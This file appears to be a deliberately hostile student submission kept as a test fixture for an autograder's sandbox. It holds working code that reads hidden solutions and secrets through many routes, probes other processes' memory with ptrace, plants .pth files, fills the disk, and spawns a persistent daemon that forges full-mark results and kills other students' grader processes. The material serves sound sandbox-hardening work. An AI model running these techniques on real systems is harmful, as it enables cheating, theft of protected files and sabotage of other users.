# A hostile ch17 submission, the "kitchen sink" of tests/test_attacks.py (data, never imported by the tests).
#
# At import time and in every call of its graded functions it runs a few more of the attacks of
# shared/reviews/security.md that can be tried from inside a student process without disrupting the
# grader, then answers as the stub would: wrongly (None). If any attack works (a secret read, a grader
# file written, the grader's processes, memory or environment reached, an earlier student's leftovers
# found, a disk filled past its cap) it says so ("HOLE ...") and from then on answers right: with the
# leaked reference when it has it, else with its own code. So from outside, any score above 0 is a hole.
# The network and the files a channel keeps from its students are tried too: the test's own servers on
# 127.0.0.1 (a reply only they know proves a way out), any socket but AF_UNIX and io_uring where this process
# has no namespace of its own (the uid boundary), and the private files the test names (Gradescope's
# submission_metadata.json with earlier results, the results folder, run_autograder with the bundle's secret).
#
# Only imports, definitions and assignments at the top level: `grader.delivery.cells.assemble` keeps exactly
# those, so the same text works as a chapter file and as a notebook's answer cells.
# The test replaces __CFG_JSON__ with its configuration (host paths to aim at, markers; see CFG below).
import ctypes
import json
import os
import re
import socket
import subprocess
import sys
import time

import torch

CFG = json.loads(__CFG_JSON__)
MARK = CFG["file_mark"]
STATE_PATH = "/tmp/.hostile-state-" + CFG["nonce"]
ALLOWED_ENV = {
    "PATH",
    "HOME",
    "TMPDIR",
    "LANG",
    "USER",
    "LOGNAME",
    "OMP_NUM_THREADS",
    "MKL_NUM_THREADS",
    "OPENBLAS_NUM_THREADS",
    "HF_HUB_OFFLINE",
    "CUDA_VISIBLE_DEVICES",
    "PYTHONDONTWRITEBYTECODE",
    "OPENBLAS_CORETYPE",
    "OPENBLAS_L2_SIZE",
    "PWD",
    "SHLVL",
    "_",
    "LC_CTYPE",
}

# A process the attack leaves behind (S3, H1, D5): started with start_new_session and double-forked, it
# hands itself on to a fresh process every second (a chain: killing once is never enough), rewrites every
# results file it can reach with full marks, plants files, and kills later students' processes of this
# test's graders. Its argv carries the test's process marker; its configuration comes in its environment.
DAEMON = r"""
import json, os, signal, sys, time
cfg = json.loads(os.environ["HOSTILE_CFG"])
end = time.monotonic() + 40
def stat(pid):
    try:
        with open("/proc/%d/stat" % pid) as f:
            rest = f.read().rsplit(")", 1)[1].split()
        return int(rest[1]), int(rest[19])
    except Exception:
        return None
def cmd(pid):
    try:
        with open("/proc/%d/cmdline" % pid, "rb") as f:
            return f.read().replace(b"\0", b" ").decode(errors="replace")
    except Exception:
        return ""
def graders():
    return {p for p in map(int, filter(str.isdigit, os.listdir("/proc")))
            if cfg["run_tag"] in cmd(p) and cfg["proc_mark"] not in cmd(p)}
born = (stat(os.getpid()) or (0, 0))[1]
last_hop = time.monotonic()
while time.monotonic() < end:
    if time.monotonic() - last_hop > 1.0:
        last_hop = time.monotonic()
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass
    fake = json.dumps({"score": 20.0, "max_score": 20.0, "chapter": "ch17", "status": "passed",
                       "tests": [], "output": "rewritten by a leftover process (S3)"})
    for path in cfg["result_files"]:
        for where in [path] + ["/proc/%s/root%s" % (p, path) for p in graders()]:
            try:
                if os.path.exists(where):
                    with open(where, "w") as f:
                        f.write(fake)
            except Exception:
                pass
    for d in cfg["write_dirs"]:
        try:
            with open(os.path.join(d, cfg["file_mark"] + "-daemon"), "w") as f:
                f.write(cfg["file_mark"])
        except Exception:
            pass
    tops = graders()
    for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
        c = cmd(pid)
        st = stat(pid)
        if not st or "grader.isolation" not in c or cfg["proc_mark"] in c or st[1] <= born:
            continue
        anc, hops = st[0], 0
        while anc > 1 and anc not in tops and hops < 64:
            anc, hops = (stat(anc) or (0, 0))[0], hops + 1
        if anc in tops:
            try:
                os.kill(pid, signal.SIGKILL)
            except Exception:
                pass
    time.sleep(0.3)
"""


def _load_state():
    try:
        with open(STATE_PATH) as f:
            return json.load(f)
    except Exception:
        return {"next": 0, "imports": 0, "holes": [], "leaks": [], "ref": None}


def _save():
    try:
        with open(STATE_PATH + ".new", "w") as f:
            json.dump(STATE, f)
        os.replace(STATE_PATH + ".new", STATE_PATH)
    except Exception:
        pass


def _hole(code, detail):
    line = f"HOLE {code}: {detail}"[:240]
    if line not in STATE["holes"] and len(STATE["holes"]) < 40:
        STATE["holes"].append(line)
        print(line, flush=True)
        _save()


def _secret_lines(text):
    """The lines of a leaked file worth carrying out: solution regions and hidden check definitions."""
    out, inside = [], False
    for line in text.splitlines():
        if "### BEGIN SOLUTION" in line:
            inside = True
        elif "### END SOLUTION" in line:
            inside = False
        elif inside or line.lstrip().startswith(("@hidden(", "run_whole_case(t, 2", "run_offset_case(t, 2")):
            if len(line.strip()) > 12:
                out.append(line.strip())
    return out


def _found(how, where, text):
    """A read that worked: a hole if it holds a secret, which is then carried out and used."""
    if not isinstance(text, str):
        text = text.decode(errors="replace")
    if "BEGIN SOLUTION" not in text and "@hidden(" not in text:
        return
    _hole("S1-read", f"{how} {where}")
    for line in _secret_lines(text)[:6]:
        if line not in STATE["leaks"]:
            STATE["leaks"].append(line)
            print("LEAK " + line, flush=True)
    if "def causal_mask_with_offset" in text and "BEGIN SOLUTION" in text and not STATE["ref"]:
        STATE["ref"] = text
    _save()


def _pids(most=400):
    """The visible processes, at most `most` of them (without a sandbox there are many)."""
    try:
        return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())[-most:]
    except Exception:
        return []


def _late(t0, limit=0.3):
    return time.monotonic() - t0 > limit


def _read(path, limit=1 << 20):
    """A file's bytes; never blocks (a FIFO is refused, not waited on)."""
    import stat

    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        if not stat.S_ISREG(os.fstat(fd).st_mode) and not str(path).startswith("/proc/"):
            raise OSError("not a regular file")
        return os.read(fd, limit)
    finally:
        os.close(fd)


def _cmd(pid):
    try:
        return _read(f"/proc/{pid}/cmdline").replace(b"\0", b" ").decode(errors="replace")
    except Exception:
        return ""


def _ppid(pid):
    try:
        return int(_read(f"/proc/{pid}/stat").decode().rsplit(")", 1)[1].split()[1])
    except Exception:
        return 0


def _is_grader(cmd):
    return (CFG["run_tag"] in cmd and CFG["proc_mark"] not in cmd) or "pytest" in cmd


def _candidates():
    """Where the reference and the hidden checks might be: the host's paths the test named, the same
    relative to every import root this process has, and relative to its own folders."""
    rel = [
        "solutions/ch17_causal_masks.py",
        "grader/hidden/ch17.py",
        "source/course/solutions/ch17_causal_masks.py",
        "source/course/grader/hidden/ch17.py",
    ]
    paths = list(CFG["secret_paths"])
    for root in sys.path + [os.getcwd(), os.path.expanduser("~"), os.path.dirname(os.path.abspath(__file__))]:
        for r in rel:
            paths.append(os.path.join(root or ".", r))
    return list(dict.fromkeys(paths))


# -- the attacks, a few per call ----------------------------------------------------------------------
def s_env():
    """M1: the grader's environment (its canary), here and in every process this one can see."""
    extra = sorted(set(os.environ) - ALLOWED_ENV)
    if extra:
        print("ENV beyond the allow-list:", " ".join(extra)[:200], flush=True)
    for k, v in os.environ.items():
        if k == "COURSE_CANARY" or "canary" in v:
            _hole("M1-env", f"{k}={v}")
            STATE["leaks"].append(f"{k}={v}")
    t0 = time.monotonic()
    for pid in _pids():
        if _late(t0):
            break
        try:
            env = _read(f"/proc/{pid}/environ").decode(errors="replace")
        except Exception:
            continue
        for item in env.split("\0"):
            if item.startswith("COURSE_CANARY="):
                _hole("M1-proc-environ", f"pid {pid} {item}")
                STATE["leaks"].append(item)


def s_procs():
    """M2: the host's process list (a grader of this test, or pytest, seen from here). Any grader seen from
    a sandbox with namespaces is a hole; the uid boundary has no pid namespace, so there a grader is
    visible by design and only a secret on its command line (the old seed argument) is a hole."""
    with open("/proc/self/uid_map") as f:
        namespaced = f.read().split() != ["0", "0", "4294967295"]
    seen = _pids()
    for pid in seen:
        c = _cmd(pid)
        if _is_grader(c) and (namespaced or re.search(r"grader\.gradescope \S+ ch\d\d \d+", c)):
            _hole("M2-procs", f"pid {pid}: {c[:100]}")
    print(f"PROCS {len(seen)} visible", flush=True)


def s_signal():
    """D1/D2 reach: may this process signal a grader's process (signal 0 only: nothing is sent)?"""
    for pid in _pids():
        if _is_grader(_cmd(pid)):
            try:
                os.kill(pid, 0)
                _hole("D-signal", f"can signal grader pid {pid}")
            except OSError:
                pass


def s_read_open():
    """S1/S6: plain open() of the reference and hidden checks, wherever they might be."""
    for path in _candidates():
        try:
            _found("open", path, _read(path))
        except Exception:
            pass


def s_read_dirfd():
    """S1: os.open relative to a directory fd (the audit hook of old only saw the relative path)."""
    for path in _candidates():
        try:
            folder = os.open(os.path.dirname(os.path.dirname(path)) or "/", os.O_RDONLY | os.O_DIRECTORY)
        except Exception:
            continue
        try:
            rel = os.path.join(os.path.basename(os.path.dirname(path)), os.path.basename(path))
            fd = os.open(rel, os.O_RDONLY, dir_fd=folder)
            _found("dir_fd", path, os.read(fd, 1 << 20))
            os.close(fd)
        except Exception:
            pass
        finally:
            os.close(folder)


def s_read_cat():
    """S1: a subprocess reads them (no audit event in this process)."""
    paths = [p for p in _candidates() if os.path.isabs(p) and os.path.exists(p)]
    t0 = time.monotonic()
    for path in paths:
        if _late(t0):
            break
        try:
            out = subprocess.run(["cat", path], capture_output=True, timeout=2).stdout
            if out:
                _found("cat", path, out)
        except Exception:
            pass


def s_read_ctypes():
    """S1: libc's open/read through ctypes."""
    try:
        libc = ctypes.CDLL(None, use_errno=True)
    except Exception:
        return
    for path in _candidates():
        fd = libc.open(path.encode(), 0)
        if fd < 0:
            continue
        buf = ctypes.create_string_buffer(1 << 20)
        n = libc.read(fd, buf, 1 << 20)
        libc.close(fd)
        if n > 0:
            _found("ctypes", path, buf.raw[:n])


def s_read_link():
    """S1: a hard link into a folder this process may read."""
    for i, path in enumerate(_candidates()):
        for folder in ("/tmp", os.path.expanduser("~")):
            target = os.path.join(folder, f"{MARK}-link-{i}")
            try:
                os.link(path, target)
            except Exception:
                continue
            try:
                _found("hard link", path, _read(target))
            except Exception:
                pass
            finally:
                try:
                    os.unlink(target)
                except Exception:
                    pass


def s_read_proc_root():
    """S5: through /proc/<pid>/root and /proc/<pid>/cwd of every visible process (an ancestor's root is
    the host's when there is no pid namespace)."""
    rel = ["solutions/ch17_causal_masks.py", "grader/hidden/ch17.py", "source/course/solutions/ch17_causal_masks.py"]
    t0 = time.monotonic()
    for pid in _pids():
        if pid == os.getpid():
            continue
        if _late(t0):
            break
        for path in CFG["secret_paths"]:
            try:
                _found("/proc/pid/root", f"{pid}{path}", _read(f"/proc/{pid}/root{path}"))
            except Exception:
                pass
        for r in rel:
            try:
                _found("/proc/pid/cwd", f"{pid}/{r}", _read(f"/proc/{pid}/cwd/{r}"))
            except Exception:
                pass


def s_import():
    """S1/S6: import them, with the import refusal removed from sys.meta_path."""
    import importlib
    import importlib.util

    sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_Refuse"]
    for name in ("solutions.ch17_causal_masks", "grader.hidden.ch17"):
        try:
            module = importlib.import_module(name)
            _hole("S1-import", f"{name} from {getattr(module, '__file__', '?')}")
            _found("import", name, _read(module.__file__))
        except Exception:
            pass
    for path in _candidates():
        try:
            spec = importlib.util.spec_from_file_location("hostile_probe", path)
            if spec and os.path.exists(path):
                _found("spec_from_file_location", path, spec.loader.get_data(path))
        except Exception:
            pass


def s_fds():
    """Open file descriptors this process inherited: a folder among them is a way out."""
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except Exception:
            continue
        if not os.path.isdir(f"/proc/self/fd/{fd}") or target in ("/", os.getcwd()):
            continue
        print(f"FD {fd} -> {target}", flush=True)
        for rel in (
            "solutions/ch17_causal_masks.py",
            "grader/hidden/ch17.py",
            "../solutions/ch17_causal_masks.py",
            "../../solutions/ch17_causal_masks.py",
        ):
            try:
                f = os.open(rel, os.O_RDONLY, dir_fd=int(fd))
                _found("inherited dir fd", f"{target}/{rel}", os.read(f, 1 << 20))
                os.close(f)
            except Exception:
                pass


def _lineage():
    """The ancestors of this process up to the test's grader command (never beyond it, never pytest)."""
    found, pid = [], os.getppid()
    while pid > 1 and len(found) < 64 and "pytest" not in _cmd(pid):
        found.append(pid)
        if _is_grader(_cmd(pid)):
            break
        pid = _ppid(pid)
    return found


def s_mem():
    """H2/M3: write access to another process's memory (the warm process, the grader): /proc/<pid>/mem
    opened read-write, or ptrace (PTRACE_SEIZE: the target is not stopped). Only ancestors up to the
    test's grader, and processes of the grader's side (grader.isolation in argv)."""
    t0 = time.monotonic()
    lineage = _lineage()
    try:
        libc = ctypes.CDLL(None, use_errno=True)
    except Exception:
        libc = None
    pool = lineage + [
        p
        for p in _pids()
        if p not in lineage
        and "grader.isolation" in _cmd(p)
        and CFG["proc_mark"] not in _cmd(p)
        and p != os.getpid()
        and _ppid(p) != os.getpid()
    ]
    for pid in pool:
        if _late(t0):
            break
        c = _cmd(pid)
        try:
            fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
            os.close(fd)
            _hole("H2-mem", f"/proc/{pid}/mem writable ({c[:60]})")
        except OSError:
            pass
        if _is_grader(c):
            try:
                fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
                os.close(fd)
                _hole("M3-mem", f"grader memory /proc/{pid}/mem readable")
            except OSError:
                pass
        if libc is not None and libc.ptrace(0x4206, pid, 0, 0) == 0:
            _hole("H2-ptrace", f"ptrace attached to {pid} ({c[:60]})")
            libc.ptrace(17, pid, 0, 0)


def _private(folder):
    """In a box, /tmp (and whatever is under it) is the box's own tmpfs: writing there is allowed (the
    test checks from outside that nothing reached the host's)."""
    return any(folder == p or folder.startswith(p.rstrip("/") + "/") for p in CFG["private_dirs"])


def _write_dirs():
    """The host folders the test named, and this interpreter's own site-packages (the test names the
    host's ones too, so whatever lands there is found and removed)."""
    import site

    try:
        inside = site.getsitepackages()
    except Exception:
        inside = []
    return list(dict.fromkeys(CFG["write_dirs"] + inside))


def s_write():
    """S2/S6/H-: plant files where the grader (or a later Python) would find them: the checkout, its
    figures/__pycache__ (a .pyc), site-packages (a .pth runs in every later interpreter), other
    students' folders and results, the host's /tmp. By open(), by a directory fd, by a shell, and
    through /proc/<pid>/root."""
    dirs = _write_dirs()
    try:  # one shell for every folder (no audit event, other code paths)
        subprocess.run(
            ["/bin/sh", "-c", 'for d in "$@"; do echo x > "$d/' + MARK + '-sh"; done', "sh", *dirs], capture_output=True, timeout=3
        )
    except Exception:
        pass
    for d in dirs:
        # a hole only where the test says the folder is the host's (this box's own /tmp and home are not)
        claim = d in CFG["write_dirs"] and not _private(d)
        try:
            with open(os.path.join(d, f"{MARK}-open"), "w") as f:
                f.write(MARK)
        except Exception:
            pass
        try:
            dfd = os.open(d, os.O_RDONLY | os.O_DIRECTORY)
            try:
                os.close(os.open(f"{MARK}-dirfd", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=dfd))
            finally:
                os.close(dfd)
        except Exception:
            pass
        if "site-packages" in d:
            try:
                with open(os.path.join(d, f"{MARK}.pth"), "w") as f:
                    f.write(f"import os; open('/tmp/{MARK}-pth-ran', 'w').close()\n")
            except Exception:
                pass
        if d.endswith("__pycache__"):
            try:
                with open(os.path.join(d, f"{MARK}.cpython-311.pyc"), "wb") as f:
                    f.write(b"\0" * 16)
            except Exception:
                pass
        if claim:
            for name in (f"{MARK}-open", f"{MARK}-dirfd", f"{MARK}-sh", f"{MARK}.pth", f"{MARK}.cpython-311.pyc"):
                if os.path.exists(os.path.join(d, name)):
                    _hole("S2-write", f"created {d}/{name}")
    t0 = time.monotonic()
    for pid in _pids():
        if pid == os.getpid():
            continue
        if _late(t0):
            break
        for d in [d for d in CFG["write_dirs"] if not _private(d)]:
            path = f"/proc/{pid}/root{d}/{MARK}-procroot"
            try:
                with open(path, "w") as f:
                    f.write(MARK)
                _hole("S5-write", path)
            except Exception:
                pass


def s_openw():
    """S2/S5: open existing grader files, other students' files and results for writing (no byte is
    written: opening is the hole)."""
    for path in CFG["existing_files"]:
        for where in [path] + [f"/proc/{p}/root{path}" for p in _pids() if p != os.getpid()][:40]:
            try:
                fd = os.open(where, os.O_WRONLY)
                os.close(fd)
                _hole("S2-openw", f"{where} is writable")
                break
            except Exception:
                pass


def s_victim():
    """H3: an earlier student's leftovers (files in /tmp, the home and working folders, anything that
    holds the secret the victim submission wrote and printed)."""
    roots = ["/tmp", os.path.expanduser("~"), os.getcwd(), "/"] + [f"/proc/{p}/cwd" for p in _pids()][:30]
    deadline = time.monotonic() + 0.3
    for root in dict.fromkeys(roots):
        for folder, dirs, files in os.walk(root):
            if time.monotonic() > deadline:
                return
            if folder.count("/") > 5 or folder.startswith(("/proc/sys", "/sys", "/dev", "/usr", "/lib")):
                dirs[:] = []
            if folder == "/" or folder.endswith("/proc"):
                dirs[:] = [x for x in dirs if not x.isdigit() and x not in ("proc", "sys", "dev", "usr", "lib")]
            for name in files:
                if time.monotonic() > deadline:
                    return
                path = os.path.join(folder, name)
                try:
                    if os.path.getsize(path) > 1 << 20:
                        continue
                    data = _read(path).decode(errors="replace")
                except Exception:
                    continue
                if CFG["victim_prefix"] in data and MARK not in data and CFG["nonce"] not in path:
                    i = data.index(CFG["victim_prefix"])
                    found = data[i : i + len(CFG["victim_prefix"]) + 24].split()[0]
                    _hole("H3-leftover", f"{path}: {found}")
                    STATE["leaks"].append(found)


def s_fill():
    """M4: fill the disk: more than the box's tmpfs may hold, in /tmp and in the home folder."""
    chunk = b"\0" * (1 << 20)
    for folder in ("/tmp", os.path.expanduser("~")):
        written, files = 0, []
        deadline = time.monotonic() + 0.4
        try:
            for i in range(12):
                path = os.path.join(folder, f"{MARK}-fill-{i}")
                files.append(path)
                with open(path, "wb") as f:
                    for _ in range(8):
                        f.write(chunk)
                        written += len(chunk)
                if time.monotonic() > deadline:
                    break
        except Exception:
            pass
        for path in files:
            try:
                os.unlink(path)
            except Exception:
                pass
        if written > CFG["fill_cap"]:
            _hole("M4-fill", f"{written >> 20} MiB written into {folder}")


def s_walk():
    """S1/S6: search the file system for the reference and the hidden checks."""
    deadline = time.monotonic() + 0.3
    for root in ["/work", "/root", "/home", "/opt", "/srv", "/autograder", "/tmp", "/usr/local", sys.prefix]:
        for folder, dirs, files in os.walk(root):
            if time.monotonic() > deadline:
                return
            dirs[:] = [x for x in dirs if x not in ("torch", "nvidia", "numpy", ".git", "proc")]
            for name in files:
                if (name == "ch17_causal_masks.py" and folder.endswith("solutions")) or (name == "ch17.py" and folder.endswith("hidden")):
                    try:
                        _found("walk", os.path.join(folder, name), _read(os.path.join(folder, name)))
                    except Exception:
                        pass


def _namespaced():
    """True in a sandbox with namespaces of its own (bubblewrap): its network is its own, with no way out."""
    with open("/proc/self/uid_map") as f:
        return f.read().split() != ["0", "0", "4294967295"]


def s_network():
    """The network: TCP and UDP to the test's servers (their reply, which only they know, proves a way out;
    the test also checks what they heard); where there is no network namespace, any socket but AF_UNIX
    (IPv6, raw, ICMP, packet, netlink) and io_uring, which could open one without the socket call."""
    tcp, udp, reply = CFG["net"]
    try:
        with socket.create_connection(("127.0.0.1", tcp), timeout=2) as s:
            s.sendall(MARK.encode())
            if s.recv(256) == reply.encode():
                _hole("N-tcp", f"reached the test's server at 127.0.0.1:{tcp}")
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.5)
            s.sendto(MARK.encode(), ("127.0.0.1", udp))
            if s.recvfrom(256)[0] == reply.encode():
                _hole("N-udp", f"reached the test's server at 127.0.0.1:{udp}")
    except OSError:
        pass
    if _namespaced():
        return
    kinds = [
        ("IPv6", socket.AF_INET6, socket.SOCK_STREAM, 0),
        ("raw", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        ("ICMP", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
        ("packet", getattr(socket, "AF_PACKET", 17), socket.SOCK_RAW, 0),
        ("netlink", getattr(socket, "AF_NETLINK", 16), socket.SOCK_RAW, 0),
    ]
    for name, family, kind, proto in kinds:
        try:
            socket.socket(family, kind, proto).close()
            _hole("N-socket", f"opened a {name} socket without a network namespace")
        except OSError:
            pass
    try:
        fd = ctypes.CDLL(None, use_errno=True).syscall(425, 4, ctypes.create_string_buffer(120))  # io_uring_setup
        if fd >= 0:
            os.close(fd)
            _hole("N-io_uring", "io_uring set up without a network namespace")
    except Exception:
        pass


def s_private():
    """The files the channel keeps from its students (the test names them): any byte read, any name listed."""
    for path in CFG["private_files"]:
        try:
            got = repr(os.listdir(path)) if os.path.isdir(path) else _read(path).decode(errors="replace")
        except Exception:
            continue
        _hole("P-read", f"{path}: {got[:100]}")
        STATE["leaks"].append(got[:1000])


def s_daemons():
    """S3/H1/D5: leave processes behind: a session leader, a double-forked one, plain sleeps."""
    env = {"HOSTILE_CFG": json.dumps(CFG), "PATH": "/usr/bin:/bin"}
    argv = [sys.executable, "-I", "-c", DAEMON, CFG["proc_mark"] + "-daemon"]
    try:
        subprocess.Popen(
            argv, env=env, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )
    except Exception:
        pass
    try:
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    os.execve(sys.executable, argv[:-1] + [CFG["proc_mark"] + "-double-fork"], env)
            finally:
                os._exit(0)
        os.waitpid(pid, 0)
    except Exception:
        pass
    for _ in range(3):
        try:
            os.posix_spawn("/bin/sleep", [CFG["proc_mark"] + "-sleep", "3217"], {}, setsid=True)
        except Exception:
            pass


STEPS = [
    s_env,
    s_procs,
    s_signal,
    s_read_open,
    s_read_dirfd,
    s_import,
    s_read_ctypes,
    s_read_proc_root,
    s_read_link,
    s_read_cat,
    s_fds,
    s_mem,
    s_write,
    s_openw,
    s_victim,
    s_fill,
    s_walk,
    s_network,
    s_private,
]


def _advance(budget=0.2):
    start = time.monotonic()
    while STATE["next"] < len(STEPS) and time.monotonic() - start < budget:
        step = STEPS[STATE["next"]]
        STATE["next"] += 1
        _save()
        try:
            step()
        except Exception as e:
            print(f"{step.__name__}: {type(e).__name__}", flush=True)
        _save()


def _boot():
    STATE["imports"] += 1
    _save()
    if STATE["imports"] == 1:
        s_daemons()
    _advance(0.3)
    return True


# -- answers ------------------------------------------------------------------------------------------
def _answers():
    """None while nothing worked; with a hole, the leaked reference or this file's own right answers."""
    if not STATE["holes"]:
        return None
    if STATE["ref"]:
        try:
            ns = {"__name__": "leaked_reference"}
            exec(compile(STATE["ref"], "leaked_reference", "exec"), ns)
            return ns["causal_mask"], ns["causal_mask_with_offset"]
        except Exception:
            pass
    return _own_whole, _own_offset


def _count(n):
    if type(n) is not int or n < 0:
        raise ValueError("counts are non-negative ints\n" + "\n".join(STATE["holes"] + STATE["leaks"])[:3500])
    return n


def _own_whole(n):
    i = torch.arange(_count(n))
    return i[:, None] >= i[None, :]


def _own_offset(new, cached):
    q = torch.arange(_count(new))[:, None] + _count(cached)
    return torch.arange(new + cached)[None, :] <= q


def causal_mask(num_tokens):
    _advance()
    if num_tokens == 2500 and type(num_tokens) is int:  # the hidden checks have begun: leave processes again
        s_daemons()
    answers = _answers()
    if answers is None:
        return None
    print("\n".join(STATE["leaks"][:4] + STATE["holes"])[:280], flush=True)
    if type(num_tokens) is int and num_tokens < 0:  # carry the secrets out in a visible check's message
        raise ValueError("negative\n" + "\n".join(STATE["holes"] + STATE["leaks"])[:3500])
    return answers[0](num_tokens)


def causal_mask_with_offset(num_new, num_cached):
    _advance()
    answers = _answers()
    if answers is None:
        return None
    if STATE["leaks"] and type(num_cached) is int and num_cached < 0:  # a visible failure carries them out
        raise TypeError("\n".join(STATE["leaks"])[:3500])
    return answers[1](num_new, num_cached)


STATE = _load_state()
_BOOTED = _boot()
